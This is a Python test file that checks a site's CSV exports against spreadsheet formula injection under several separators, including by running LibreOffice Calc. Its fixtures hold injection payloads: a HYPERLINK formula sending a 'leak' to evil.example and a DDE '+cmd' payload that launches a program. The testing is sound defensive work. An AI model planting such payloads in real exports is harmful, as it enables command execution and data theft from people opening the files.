"""The CSV exports cannot run as formulas in a spreadsheet, whichever separator it splits on.

A spreadsheet in a locale whose list separator is `;` (or one told to split on tabs) reads our
comma-separated files with its own separator. Every text cell is quoted, so a `,`, `;` or tab inside
it stays inside it for a reader that honours the quotes; and every place a formula could start (the
cell's start, or right after a separator or line break inside the text, after spaces or quotes) gets
an apostrophe, so even a reader that splits there gets text. Numbers stay bare numbers.

Read back with Python's csv module under `,`, `;` and tab, and, where LibreOffice is installed
(`apt-get install libreoffice-calc`), converted by LibreOffice Calc under each separator with no
formula and no link in the result.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path
from typing import Annotated, get_origin

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_cli, write_content
from playbook_site.content import load
from playbook_site.content.exports import _csv, export_columns, kpis_csv, leads_csv
from playbook_site.content.schema import Kpi, LeadStage, Meta, Text, meta_of

DANGEROUS = ("=", "+", "-", "@")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SEPARATORS = {",": 44, ";": 59, "\t": 9}

HOSTILE_KPI = """
    name: Win rate
    definition: "Share of deals won;=1+1"
    formula: 'Won ÷ (won + lost);=HYPERLINK("https://evil.example/?leak";"click")'
    unit: percent
    direction: higher
    owner: sales-manager
    shared_with: [marketing-manager]
    target:
      value: -5
      period: quarter
    source: "CRM\\t=3+3, @SUM(1); \\"-2+3"
"""
HOSTILE_LEAD = """
    name: Marketing Qualified Lead
    abbreviation: MQL
    order: 1
    definition: A lead that fits the profile.
    owner: marketing-manager
    entry_criteria:
      - Score of 60 or more.
      - '=1+1'
      - "+cmd|' /C calc'!A0"
    reason_codes: ["x; @SUM(2)", ' -3+3']
    handoff:
      to: account-executive
      sla_hours: 24
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return write_content(
        tmp_path / "content", {"kpis/win-rate.yml": HOSTILE_KPI, "leads/marketing-qualified-lead.yml": HOSTILE_LEAD}
    )


def starts_a_formula(cell: str) -> bool:
    """What a spreadsheet could run: a cell that, after spaces and double quotes, starts with = + - @
    (a bare number such as -5 is a number, not a formula)."""
    stripped = cell.lstrip(' \t\r\n"')
    return stripped.startswith(DANGEROUS) and not NUMBER.fullmatch(stripped)


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("delimiter", list(SEPARATORS), ids=["comma", "semicolon", "tab"])
def test_no_cell_starts_a_formula_under_any_separator(hostile: Path, delimiter: str) -> None:
    playbook = load(hostile)
    for text in (kpis_csv(playbook), leads_csv(playbook)):
        read = cells(text, delimiter)
        assert read, "the file has cells"
        assert [cell for cell in read if starts_a_formula(cell)] == []


def test_the_values_read_back_with_the_apostrophes_and_numbers_stay_numbers(hostile: Path) -> None:
    playbook = load(hostile)
    text = kpis_csv(playbook)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["definition"] == "Share of deals won;'=1+1"
    assert row["formula"] == 'Won ÷ (won + lost);\'=HYPERLINK("https://evil.example/?leak";"click")'
    assert row["source"] == "CRM\t'=3+3, '@SUM(1); \"'-2+3"
    assert row["target_value"] == "-5" and ',-5,"quarter"' in text  # a bare number, not quoted text
    assert (
        text.startswith('"id","name","abbreviation",') and '"win-rate","Win rate",,"agreed",' in text
    )  # text quoted, empty bare
    lead = next(csv.DictReader(io.StringIO(leads_csv(playbook))))
    assert lead["entry_criteria"] == "Score of 60 or more.; '=1+1; '+cmd|' /C calc'!A0"
    assert lead["reason_codes"] == "x; '@SUM(2); '-3+3"  # (the loader trims the leading space)
    assert lead["order"] == "1" and lead["handoff_sla_hours"] == "24"


hostile_text = st.text(alphabet=st.sampled_from(list("=+-@;,\t\r\n \"'a1")), max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(hostile_text, st.integers(-99, 99), st.none()), min_size=1, max_size=4))
def test_any_text_is_safe_under_every_separator_and_reads_back_under_commas(cells_: list[object]) -> None:
    row: list[object] = ["id", *cells_]  # (a row of one empty cell would read back as no cell at all)
    text = _csv(["id", "a", "b", "c", "d"][: len(row)], [row])
    for delimiter in SEPARATORS:
        assert [cell for cell in cells(text, delimiter) if starts_a_formula(cell)] == [], (delimiter, text)
    back = list(csv.reader(io.StringIO(text, newline="")))[1]
    for value, cell in zip(row, back, strict=True):
        if value is None:
            assert cell == ""
        elif isinstance(value, int):
            assert cell == str(value)
        else:
            assert isinstance(value, str)
            assert cell.replace("'", "") == value.replace("'", "")  # the text itself, with apostrophes added only


# --- LibreOffice Calc ------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def calc_cells(csv_file: Path, separator: int, work: Path) -> str:
    """The CSV file opened by LibreOffice Calc splitting on `separator`, saved as a flat ODF
    spreadsheet (XML): formulas show as `table:formula`, links as `xlink:href`."""
    out = work / f"out-{separator}"
    profile = work / "profile"  # its own profile, so parallel tests do not share one
    result = subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            f"--infilter=CSV:{separator},34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = out / (csv_file.stem + ".fods")
    assert converted.is_file(), result.stdout + result.stderr
    return converted.read_text(encoding="utf-8")


def test_libreoffice_evaluates_no_formula_and_makes_no_link(hostile: Path, tmp_path: Path) -> None:
    """Fails, never skips, without LibreOffice: `make test` installs it (scripts/ensure-libreoffice)."""
    if SOFFICE is None:
        pytest.fail("LibreOffice is missing: run `bash scripts/ensure-libreoffice` (`make test` does)", pytrace=False)
    out = tmp_path / "exports"
    assert run_cli("export", "--format", "csv", "--out", str(out), "--content", str(hostile)).exit_code == 0
    # The control: the same kind of cells as the tool wrote them before (unquoted, `;=` inside), which Calc runs.
    control = tmp_path / "control.csv"
    control.write_text('id,formula\nwin-rate,Won;=1+1;=HYPERLINK("https://evil.example/?leak";"click")\n', encoding="utf-8")
    control_cells = calc_cells(control, SEPARATORS[";"], tmp_path)
    assert 'table:formula="of:=1+1"' in control_cells and 'table:formula="of:=HYPERLINK(' in control_cells
    for name, shown in (("kpis.csv", "evil.example"), ("leads.csv", "/C calc&apos;!A0")):
        for separator, code in SEPARATORS.items():
            sheet = calc_cells(out / "exports" / name, code, tmp_path / f"{name}-{code}")
            assert "table:formula" not in sheet, (name, repr(separator))
            assert "xlink:href" not in sheet, (name, repr(separator))
            assert shown in sheet, (name, repr(separator))  # the text is there, as text
    comma = calc_cells(out / "exports" / "kpis.csv", SEPARATORS[","], tmp_path / "numbers")
    assert 'office:value-type="float" office:value="-5"' in comma  # the target is still a number


# --- the columns come from the models (issue 26) ----------------------------------------------------


@pytest.mark.parametrize("model", [Kpi, LeadStage])
def test_every_field_a_reader_sees_has_a_column_and_no_editors_field_has_one(model: type[Kpi] | type[LeadStage]) -> None:
    columns = export_columns(model)
    assert len(columns) == len(set(columns))
    for name, info in model.model_fields.items():
        meta = meta_of(model, name)
        has_column = any(column == name or column.startswith(name + ".") for column in columns)
        if meta is not None and not meta.reader:  # approvers, review_by, notes: for editors
            assert not has_column, name
        elif get_origin(info.annotation) is dict:  # crm: a `crm_<system>` column per system instead
            assert not has_column, name
        else:
            assert has_column, name


def test_a_new_optional_field_reaches_the_csv_with_no_list_to_update() -> None:
    class WithChannel(Kpi):
        channel: Annotated[Text | None, Meta("where to ask", "short")] = None

    assert export_columns(WithChannel) == [*export_columns(Kpi), "channel"]
    assert export_columns(Kpi) == list(Kpi.csv_columns)  # today's columns keep their order


def test_the_csv_header_is_the_models_columns(tmp_path: Path) -> None:
    playbook = load(write_content(tmp_path / "content"))
    for text, model in ((kpis_csv(playbook), Kpi), (leads_csv(playbook), LeadStage)):
        header = next(csv.reader(io.StringIO(text)))
        assert header[: len(export_columns(model))] == [column.replace(".", "_") for column in export_columns(model)]
